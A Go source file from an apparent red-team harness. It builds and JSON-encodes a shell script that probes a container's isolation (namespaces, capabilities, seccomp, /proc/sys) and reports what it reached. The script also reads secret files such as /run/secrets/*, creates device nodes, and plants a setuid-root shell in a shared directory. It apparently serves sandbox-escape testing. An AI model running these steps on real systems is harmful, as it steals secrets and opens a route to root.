package redteam

import (
	"bytes"
	"encoding/json"
	"strings"
)

// script is what runs in every container that an attack gets: it looks around
// and says what it reached. Its words are split, so that they are in no answer
// that only repeats the command.
const script = `p() { echo "REACH""ED-{mark} $1"; }
for k in pid net ipc uts mnt cgroup user; do
 case " {namespaces} " in *" $(readlink /proc/self/ns/$k) "*) p "a namespace that isn't its own: $k";; esac
done
c=0x$(sed -n 's/^CapBnd:[^0-9a-f]*//p' /proc/self/status)
for b in 2 12 16 17 19 21 25 27 34 38 39; do [ $(((c >> b) & 1)) = 1 ] && p "capability number $b"; done
grep -q '^Seccomp:.*{seccomp}' /proc/self/status || p "a process without the filter of system calls"
grep -q ' /proc/sys ' /proc/self/mountinfo || p "a writable /proc/sys"
cat /h/secret /h{canary}/secret /secret /run/secrets/* 2>/dev/null
(echo x > /h{canary}/written) 2>/dev/null; [ -e /h/secret ] && (echo x > /h/written) 2>/dev/null
mknod /dev/made c 1 11 2>/dev/null && p "a device node made"
for d in /dev/ds01x /dev/ds01d/kmsg /dev/made; do (: < $d) 2>/dev/null && p "an open device $d"; done
case "$( (: < {victimdev}) 2>&1 )" in ''|*such\ device*) p "another's GPU at {victimdev}";; esac
[ -d /w ] && { cp /bin/sh /w/sh; chown 0:0 /w/sh; chmod 4755 /w/sh; mknod /w/kmsg c 1 11; } 2>/dev/null
exit 0
`

// reached is how the script begins what it says.
func (f facts) reached() string { return "REACHED-" + f["{mark}"] + " " }

// payload returns the script as the inside of a JSON string.
func (f facts) payload() string {
	var out bytes.Buffer
	enc := json.NewEncoder(&out)
	enc.SetEscapeHTML(false)
	if enc.Encode(f.fill(script)) != nil {
		return "" // a text always encodes
	}
	return strings.Trim(strings.TrimSpace(out.String()), `"`)
}
